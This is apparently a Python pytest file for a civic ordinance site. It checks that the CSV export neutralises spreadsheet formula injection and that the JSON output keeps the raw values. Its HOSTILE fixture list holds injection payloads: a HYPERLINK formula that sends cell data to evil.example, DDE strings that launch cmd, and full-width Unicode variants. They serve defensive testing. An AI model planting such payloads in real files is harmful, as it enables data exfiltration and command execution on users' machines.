"""Open data cannot carry formulas: text a spreadsheet would run is written to the CSV as text, through
a real build of content with hostile titles, names and citations; the JSON keeps every value exactly."""

from __future__ import annotations

import csv
import io
import json

import pytest
import yaml

from hub_data.formats import FORMULA_STARTS, neutralise, to_csv
from tests.sitekit import ROOT, build, front, write_site

HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "  =1+1",
    "\uff1d1+1",
    "\uff0bcmd",
    "\uff0d1",
    "\uff20SUM(A1)",
]
DANGEROUS = tuple(FORMULA_STARTS)


def _quoted(text: str) -> str:
    return json.dumps(text)  # a YAML double-quoted scalar: every character kept, escapes included


@pytest.fixture(scope="module")
def api(tmp_path_factory):
    places = [{"slug": f"place-{i}-nc", "name": name, "kind": "city"} for i, name in enumerate(HOSTILE)]
    adoptions = "".join(
        f"  - jurisdiction: place-{i}-nc\n    status: adopted\n    date: 2025-03-04\n"
        f"    citation: {_quoted(HOSTILE[-1 - i])}\n"
        for i in range(len(HOSTILE))
    )
    ordinance = front(
        f"title: {_quoted(HOSTILE[0])}\ndate: 2025-10-01\nsummary: S.\nissues: [housing]\n"
        f"jurisdictions: [hillsborough-nc]\nadoptions:\n{adoptions}"
    )
    folder = tmp_path_factory.mktemp("formulas")
    content = write_site(folder / "content", {"ordinances/fair-rent.md": ordinance})
    state = content / "jurisdictions" / "nc.yaml"
    state.write_text(state.read_text() + yaml.safe_dump(places, allow_unicode=True))
    output = folder / "out"
    result = build(content, output, ROOT / "publishconf.py")
    assert result.returncode == 0, result.stderr
    return output / "api"


def test_no_csv_cell_starts_a_formula_after_a_real_build(api):
    data = (api / "adoptions.csv").read_bytes().decode("utf-8")
    found = list(csv.DictReader(io.StringIO(data, newline="")))
    items = json.loads((api / "adoptions.json").read_text(encoding="utf-8"))["adoptions"]
    assert len(found) == len(items) == len(HOSTILE)
    cells = [cell for row in found for cell in row.values()]
    assert not [cell for cell in cells if cell.lstrip(" \n\u00a0\u3000").startswith(DANGEROUS)]
    # Each cell is the JSON's value, as text: a quote in front of a would-be formula, the rest unchanged.
    for row, item in zip(found, items, strict=True):
        for column, cell in row.items():
            value = item[column] or ""
            assert cell == ("'" + value if value[:1] in DANGEROUS else value)
    for line in data.split("\r\n"):
        assert ",'" not in line  # a neutralised cell is always quoted, never bare


def test_the_json_keeps_the_hostile_values_exactly(api):
    """The loader trims the spaces around a value; the JSON has it as loaded, its formula included."""
    adoptions = json.loads((api / "adoptions.json").read_text(encoding="utf-8"))["adoptions"]
    loaded = {value.strip() for value in HOSTILE}
    assert {a["jurisdiction_name"] for a in adoptions} == loaded
    assert {a["citation"] for a in adoptions} == loaded
    assert {a["ordinance_title"] for a in adoptions} == {HOSTILE[0]}
    assert {v[0] for v in loaded} == {"=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20"}
    documents = json.loads((api / "documents.json").read_text(encoding="utf-8"))["documents"]
    assert HOSTILE[0] in {d["title"] for d in documents}


def test_tab_and_carriage_return_starts_are_neutralised():
    for value in ("\t=1+1", "\r=1+1", "\t", " =1", "\u3000@x", "\n+1"):
        data = to_csv(("t",), [{"t": value}]).decode()
        (cell,) = next(csv.reader(io.StringIO(data.split("\r\n", 1)[1], newline="")))
        assert cell == "'" + value


def test_numbers_by_type_and_harmless_text_are_left_as_they_are():
    data = to_csv(("n", "t"), [{"n": -3, "t": "a-b = c"}, {"n": 2.5, "t": "-3"}, {"n": None, "t": "'="}])
    assert data == b"n,t\r\n-3,a-b = c\r\n2.5,\"'-3\"\r\n,'=\r\n"
    assert neutralise("plain") == "plain" and neutralise("") == ""
    assert neutralise('=A1&"x"') == '\'=A1&"x"'
    assert to_csv(("t",), [{"t": '=A1&"x"'}]) == b't\r\n"\'=A1&""x"""\r\n'
